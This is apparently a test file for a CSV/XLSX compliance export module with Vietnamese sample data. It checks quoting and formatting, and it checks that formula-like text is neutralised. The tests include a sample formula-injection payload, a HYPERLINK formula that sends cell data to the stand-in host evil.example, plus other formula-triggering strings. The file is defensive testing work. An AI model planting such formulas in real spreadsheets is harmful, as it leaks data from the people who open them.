import ExcelJS from 'exceljs';
import { csvField, spreadsheetText, toCsv, toXlsx, type ExportTable } from './compliance-export.js';

const table: ExportTable<{ name: string; n: number; rate: number | null; at: string }> = {
  title: 'Theo đơn vị',
  columns: [
    { header: 'Đơn vị', width: 30, value: (row) => row.name },
    { header: 'Số', width: 6, type: 'number', value: (row) => row.n },
    { header: 'Tỷ lệ', width: 8, type: 'rate', value: (row) => row.rate },
    { header: 'Lúc', width: 18, type: 'date', value: (row) => row.at },
  ],
  rows: [
    { name: 'Xã Hồng Quang, "A"', n: 3, rate: 0.5, at: '2026-12-04T03:00:00.000Z' },
    { name: 'Phòng VH&TT', n: 0, rate: null, at: '2026-12-05T03:00:00.000Z' },
  ],
};

describe('compliance export', () => {
  it('should quote CSV fields only when needed', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(0)).toBe('0');
  });

  it('should write CSV with a BOM, a header and CRLF rows', () => {
    expect(toCsv([table])).toBe(
      '\uFEFFĐơn vị,Số,Tỷ lệ,Lúc\r\n' +
        '"Xã Hồng Quang, ""A""",3,0.5,2026-12-04T03:00:00.000Z\r\n' +
        'Phòng VH&TT,0,,2026-12-05T03:00:00.000Z\r\n',
    );
  });

  it('should title each table when there are several', () => {
    const csv = toCsv([table, { ...table, title: 'Khác', rows: [] }]);
    expect(csv.split('\r\n')).toEqual([
      '\uFEFFTheo đơn vị',
      'Đơn vị,Số,Tỷ lệ,Lúc',
      '"Xã Hồng Quang, ""A""",3,0.5,2026-12-04T03:00:00.000Z',
      'Phòng VH&TT,0,,2026-12-05T03:00:00.000Z',
      '',
      'Khác',
      'Đơn vị,Số,Tỷ lệ,Lúc',
      '',
    ]);
  });

  it('should write XLSX with a frozen header, widths, rates and dates', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx([table])) as never);
    const sheet = workbook.getWorksheet('Theo đơn vị')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(1).width).toBe(30);
    expect(sheet.getRow(1).values).toEqual([undefined, 'Đơn vị', 'Số', 'Tỷ lệ', 'Lúc']);
    expect(sheet.getCell('A2').value).toBe('Xã Hồng Quang, "A"');
    expect(sheet.getCell('B2').value).toBe(3);
    expect(sheet.getCell('C2').numFmt).toBe('0.0%');
    expect(sheet.getCell('D2').value).toEqual(new Date('2026-12-04T03:00:00.000Z'));
  });
});

describe('spreadsheet formula neutralising', () => {
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
  const risky = [hostile, '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\rcmd', '-5 ngày'];
  const injected: ExportTable<{ text: string; n: number }> = {
    title: '=Sheet',
    columns: [
      { header: '=Tiêu đề', width: 30, value: (row) => row.text },
      { header: 'Số', width: 6, type: 'number', value: (row) => row.n },
    ],
    rows: risky.map((text) => ({ text, n: -5 })),
  };

  it('should prefix text that a spreadsheet would read as a formula with a quote', () => {
    for (const text of risky) expect(spreadsheetText(text)).toBe(`'${text}`);
    expect(spreadsheetText('Xã Hồng Quang')).toBe('Xã Hồng Quang');
    expect(spreadsheetText('')).toBe('');
    expect(spreadsheetText(-5)).toBe(-5);
    expect(spreadsheetText(0.25)).toBe(0.25);
    expect(spreadsheetText(null)).toBeNull();
  });

  it('should write no CSV cell that starts a formula, and keep real numbers as numbers', () => {
    const lines = toCsv([injected])
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[0]).toBe("'=Tiêu đề,Số");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")",-5`);
    expect(lines.slice(2, 8)).toEqual([
      "'+1+1,-5",
      "'-2+3,-5",
      "'@SUM(A1:A2),-5",
      "'\tcmd,-5",
      `"'\rcmd",-5`,
      "'-5 ngày,-5",
    ]);
  });

  it('should write no XLSX cell that starts a formula, and keep real numbers as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx([injected])) as never);
    const sheet = workbook.worksheets[0];
    expect(sheet.getCell('A1').value).toBe("'=Tiêu đề");
    risky.forEach((text, index) => {
      // XML reads a carriage return back as a line feed; what matters is the leading quote.
      expect(sheet.getCell(`A${index + 2}`).value).toBe(`'${text}`.replace(/\r/g, '\n'));
      expect(sheet.getCell(`B${index + 2}`).value).toBe(-5);
    });
  });
});
